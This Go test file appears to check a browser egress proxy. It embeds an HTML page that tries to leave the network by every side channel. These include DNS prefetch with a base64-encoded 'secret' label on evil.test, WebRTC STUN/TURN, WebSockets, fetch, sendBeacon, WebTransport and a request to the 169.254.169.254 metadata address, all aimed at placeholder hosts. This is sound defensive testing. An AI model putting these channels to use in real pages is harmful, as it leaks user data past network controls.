package egress_test

// page tries every way out of a browser that is not a request through the
// proxy, and says when it has tried.
const page = `<!doctype html><title>start</title>
<link rel="dns-prefetch" href="//c2VjcmV0.evil.test"><link rel="preconnect" href="https://198.51.100.66">
<link rel="prefetch" href="http://198.51.100.66/prefetch"><img src="http://169.254.169.254/i"><img src="http://[2001:db8::66]/i">
<form id="f" action="ftp://198.51.100.66/"></form>
<script>
const tried = [];
function attempt(name, f) { try { f(); tried.push(name) } catch (e) { tried.push(name + " threw") } }
attempt("rtc", () => {
  const pc = new RTCPeerConnection({iceServers: [{urls: "stun:198.51.100.66:3478"}, {urls: "turn:198.51.100.66:3478?transport=tcp", username: "u", credential: "p"}]});
  pc.createDataChannel("x"); pc.createOffer().then(o => pc.setLocalDescription(o));
});
attempt("ws", () => new WebSocket("ws://198.51.100.66/"));
attempt("wss", () => new WebSocket("wss://198.51.100.66/"));
attempt("fetch", () => fetch("http://198.51.100.66/", {mode: "no-cors"}).catch(() => {}));
attempt("beacon", () => navigator.sendBeacon("http://198.51.100.66/", "secret"));
attempt("transport", () => { if (window.WebTransport) new WebTransport("https://198.51.100.66/") });
setTimeout(() => { document.body.textContent = "tried " + tried.join(" ") }, 4000);
</script><body>working</body>`
